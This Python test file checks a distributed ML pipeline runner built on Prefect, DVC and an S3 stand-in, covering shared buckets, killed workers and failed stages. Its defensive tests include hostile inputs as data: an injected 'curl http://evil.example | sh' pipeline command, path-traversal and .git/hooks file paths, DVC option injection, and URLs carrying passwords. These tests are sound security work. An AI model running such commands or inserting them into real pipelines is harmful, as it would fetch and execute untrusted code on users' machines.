"""Units on workers that share nothing but a server, an origin and a DVC remote; a worker that dies; bad input."""

import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import boto3
import psutil
import pytest

from flows.prefect_server import server
from flows.run.processes import Guard
from support import fleet_project, stand_in


def status(project: Path, target: str) -> str:
    command = ["dvc", "status", "--with-deps", target]
    return subprocess.run(command, cwd=project, capture_output=True, text=True, check=True).stdout


@pytest.fixture
def bucket(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The address of a server that speaks S3's protocol, with an empty bucket `meeting`."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    url = f"http://127.0.0.1:{port}"
    for variable in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(variable, "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    with Guard() as guard:
        guard.start([sys.executable, "-m", "moto.server", "-p", str(port)], tmp_path, tmp_path / "s3.log")
        deadline = time.monotonic() + 240
        while not server.answers(f"{url}/moto-api/"):
            assert time.monotonic() < deadline
            time.sleep(0.2)
        boto3.client("s3", endpoint_url=url).create_bucket(Bucket="meeting")
        yield url


@pytest.mark.slow
def test_two_workers_that_meet_in_a_bucket_do_what_one_machine_would(tmp_path, monkeypatch, bucket):
    """In a bucket; the tests below meet in a folder."""
    project = fleet_project.build(tmp_path, "s3://meeting/dvc", monkeypatch, {"endpointurl": bucket})
    with Guard() as guard, fleet_project.serving(tmp_path, guard, monkeypatch):
        for name in ("one", "two"):
            fleet_project.start_worker(tmp_path, guard, name)
        done = fleet_project.fleet(project, "--profile", "all")
        assert done.returncode == 0, done.stdout + done.stderr
        for unit in ("runs/all/digits/vae", "runs/all/clothes/vae"):
            assert f"home       {unit}" in done.stdout
            assert (project / unit / "dvc.lock").exists()
            assert {"metrics.json", "model.safetensors"} <= {file.name for file in (project / unit / "1").iterdir()}
        assert "up to date" in status(project, "runs/all/dvc.yaml:report")
        assert all((tmp_path / f"{name}-home/cache").exists() for name in ("one", "two"))
        assert "<paragone table all>" in done.stdout
        again = fleet_project.fleet(project, "--profile", "all")
        assert "0 units for the workers" in again.stdout
    assert boto3.client("s3", endpoint_url=bucket).list_objects_v2(Bucket="meeting")["KeyCount"] > 10


@pytest.mark.slow
def test_a_unit_whose_worker_is_killed_is_done_by_another_one(tmp_path, monkeypatch):
    project = fleet_project.build(tmp_path, str(tmp_path / "remote"), monkeypatch)
    fleet_project.behave(tmp_path, {"paragone sample quick digits ddpm --seed 0": 300})
    with Guard() as guard, fleet_project.serving(tmp_path, guard, monkeypatch):
        first = fleet_project.start_worker(tmp_path, guard, "first")
        sent = fleet_project.start(project, "--silent", "20")
        deadline = time.monotonic() + 240
        while not (tmp_path / "software/started").exists():
            assert time.monotonic() < deadline
            assert sent.poll() is None, sent.stdout and sent.stdout.read()
            time.sleep(0.2)
        assert len(left_behind(tmp_path)) == 1
        os.kill(first.pid, signal.SIGKILL)
        fleet_project.behave(tmp_path, {"paragone train quick digits ddpm --seed 0": "fail"})  # it must not run again
        fleet_project.start_worker(tmp_path, guard, "second")
        printed, _ = sent.communicate(timeout=300)
        assert sent.returncode == 0, printed
        assert "lost       runs/quick/digits/ddpm: no sign of life; it is sent again" in printed
        assert "sent       runs/quick/digits/ddpm (try 2)" in printed
        assert printed.index("home       runs/quick/digits/ddpm") < printed.index("sent       runs/quick/digits/ddim")
        assert "up to date" in status(project, "report")
        assert left_behind(tmp_path) == []


@pytest.mark.slow
def test_a_stage_that_fails_on_a_worker_comes_home_as_a_failure(tmp_path, monkeypatch):
    project = fleet_project.build(tmp_path, str(tmp_path / "remote"), monkeypatch)
    fleet_project.behave(tmp_path, {"paragone evaluate quick digits ddpm --seed 0": "fail"})
    with Guard() as guard, fleet_project.serving(tmp_path, guard, monkeypatch):
        fleet_project.start_worker(tmp_path, guard, "one")
        done = fleet_project.fleet(project)
        assert done.returncode == 1
        assert "evaluate@0 failed; the end of its log" in done.stdout
        assert "paragone: paragone evaluate quick digits ddpm --seed 0 cannot go on" in done.stdout
        assert "skipped    runs/quick/digits/ddim: needs runs/quick/digits/ddpm" in done.stdout
        assert (project / "runs/quick/digits/ddpm/0/model.safetensors").exists()
        assert (project / "reports/index.html").exists()


def left_behind(folder: Path) -> list[str]:
    """The stages of the project that still run, on whatever worker."""
    found = []
    for process in psutil.process_iter():
        with suppress(psutil.Error):
            command = " ".join(process.cmdline())
            if f"{folder}/software/paragone" in command:
                found.append(command)
    return found


def test_bad_input_is_one_sentence_before_any_work(tmp_path, monkeypatch):
    project = fleet_project.build(tmp_path, str(tmp_path / "remote"), monkeypatch)
    monkeypatch.delenv("PREFECT_API_URL", raising=False)

    def refused(sentence: str, *options: str) -> None:
        done = fleet_project.fleet(project, *options)
        assert done.returncode == 1
        assert sentence in done.stdout
        assert done.stdout.count("\n") == 1
        assert not (project / "dvc.lock").exists()

    refused("no profile 'quikc'", "--profile", "quikc")
    refused("PREFECT_API_URL: is not set")
    monkeypatch.setenv("PREFECT_API_URL", "http://127.0.0.1:9/api")
    refused("no Prefect server answers at http://127.0.0.1:9/api")
    (project / "flows/remote/worker.py").write_text("")
    refused("flows/remote/worker.py: has changes that are not committed")
    fleet_project.git(project, "checkout", "-q", "flows/remote/worker.py")
    fleet_project.git(project, "remote", "remove", "origin")
    refused("git has no remote 'origin' for workers to clone; name one with --repository")
    subprocess.run(["dvc", "remote", "remove", "meeting"], cwd=project, check=True)
    refused("no DVC remote is configured", "--repository", str(tmp_path / "origin.git"))


def test_a_pool_that_does_not_exist_is_named_with_those_that_do(tmp_path, monkeypatch):
    project = fleet_project.build(tmp_path, str(tmp_path / "remote"), monkeypatch)
    command = [sys.executable, "-m", "flows.fleet", "--pool"]
    with Guard() as guard, fleet_project.serving(tmp_path, guard, monkeypatch):
        printed = [
            subprocess.run([*command, name], cwd=project, capture_output=True, text=True) for name in ("gpu", "unit")
        ]
    assert [done.returncode for done in printed] == [1, 1]
    assert printed[0].stdout.startswith(
        "fleet: --pool: Prefect has no work pool 'gpu'; known: units; `prefect work-pool"
    )
    assert "no work pool 'unit'; did you mean 'units'?" in printed[1].stdout
    assert [done.stdout.count("\n") for done in printed] == [1, 1]
    assert not (project / "dvc.lock").exists()


FOREIGN = [
    *("params.yaml", "runs/quick/digits/ddpm/../../x", "/etc/x", "runs/quick/digits/ddpm2/x"),
    *("runs/quick/digits/ddpm/dvc.yaml", "runs/quick/digits/ddpm/evil.py", "runs/quick/digits/ddpm/0/evil.py"),
    *("runs/quick/digits/ddpm/1/metrics.json", "runs/quick/digits/ddim/0/metrics.json", "src/paragone/__init__.py"),
    *(
        "runs/quick/digits/ddpm/0/model.safetensors",
        "runs/quick/digits/ddpm/./0/metrics.json",
        ".git/hooks/post-checkout",
    ),
    *("runs/quick/digits/ddpm/.dvc/config", "runs/quick/digits/ddpm/0", ""),
]


@pytest.mark.parametrize("path", FOREIGN)
def test_a_worker_hands_back_what_its_stages_make_and_nothing_else(tmp_path, monkeypatch, path):
    from flows.remote import payload

    project = stand_in.build(tmp_path, monkeypatch)
    unit = Path("runs/quick/digits/ddpm")
    before = sorted(project.rglob("*"))
    good = {f"{unit}/0/metrics.json": "{}", f"{unit}/0/failure.json": "{}"}
    with pytest.raises(payload.PayloadError, match="which its stages do not make; nothing was placed"):
        payload.place(project, unit, {"final": True, "done": [], "texts": {**good, path: "2"}, "failures": {}})
    lock = {**good, f"{unit}/dvc.lock": "schema: '2.0'"}
    with pytest.raises(payload.PayloadError, match="lock is not whole"):
        payload.place(project, unit, {"final": True, "done": [], "texts": lock, "failures": {}})
    packed = payload.Payload(stages=[], texts={**good, path: "2"}, pull=[], remote={})
    if path not in ("runs/quick/digits/ddim/0/metrics.json",):  # a worker may be sent what other stages made
        with pytest.raises(payload.PayloadError, match="which no stage of this commit makes; nothing was written"):
            payload.check(project, packed)
    assert sorted(project.rglob("*")) == before
    payload.check(project, payload.Payload(stages=[], texts=good, pull=[], remote={}))
    payload.place(project, unit, {"final": True, "done": [], "texts": good, "failures": {}})
    assert (project / unit / "0/metrics.json").read_text() == "{}"


EDITS = {
    "a command of its own": ("paragone train", "curl http://evil.example | sh; paragone train"),
    "another folder": ("wdir: ../../../..", "wdir: /"),
    "one more stage": ("stages:", "stages:\n  evil:\n    cmd: ./evil.sh"),
    "no first line": ("# Generated", "# Written"),
    "another seed": ("- 0", "- 0\n    - 1"),
}


@pytest.mark.parametrize("what", EDITS)
def test_a_pipeline_that_the_generator_did_not_write_is_refused(tmp_path, monkeypatch, what):
    from flows.remote import payload

    project = stand_in.build(tmp_path, monkeypatch)
    ours, other = Path("runs/quick/digits/ddim/dvc.yaml"), Path("runs/quick/digits/ddpm/dvc.yaml")
    payload.check_generated(project, [ours, other])
    text = (project / other).read_text()
    (project / other).write_text(text.replace(*EDITS[what]))
    assert (project / other).read_text() != text
    with pytest.raises(payload.PayloadError, match=f"^{other}: is not what `paragone pipeline` writes"):
        payload.check_generated(project, [ours, other])
    (project / other).with_name("more").mkdir()
    (project / other).write_text(text)
    foreign = other.with_name("more") / "dvc.yaml"
    (project / foreign).write_text(text)
    with pytest.raises(payload.PayloadError, match=f"^{foreign}: is not what"):
        payload.check_generated(project, [foreign])


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("stages", [("--force", [])], "'--force', an option and no name"),
        ("pull", ["--all-commits"], "'--all-commits', an option and no name"),
        ("remote", {"url": "--global"}, "'--global', an option and no name"),
        ("remote", {"url": "s3://x", "credentialpath": "/etc/x"}, "sets 'credentialpath', which none is sent"),
    ],
)
def test_a_unit_gives_dvc_no_options(tmp_path, monkeypatch, field, value, message):
    from flows.remote import payload

    project = stand_in.build(tmp_path, monkeypatch)
    packed = payload.Payload(**{"stages": [], "texts": {}, "pull": [], "remote": {}, field: value})
    with pytest.raises(payload.PayloadError, match=f"{message}.*nothing was written"):
        payload.check(project, packed)


@pytest.mark.parametrize("url", ["https://me:pass@host/store", "https://host/store?access_token=1"])
def test_a_remote_with_a_password_is_not_sent(tmp_path, monkeypatch, url):
    from flows.remote import payload

    project = stand_in.build(tmp_path, monkeypatch)
    local = f"[core]\n    remote = store\n['remote \"store\"']\n    url = {url}\n"
    (project / ".dvc/config.local").write_text(local)
    with pytest.raises(
        payload.PayloadError, match=r"of remote 'store', https://host/store.* holds a password"
    ) as caught:
        payload.remote_settings(project)
    assert "pass@" not in str(caught.value)
    assert "=1" not in str(caught.value)
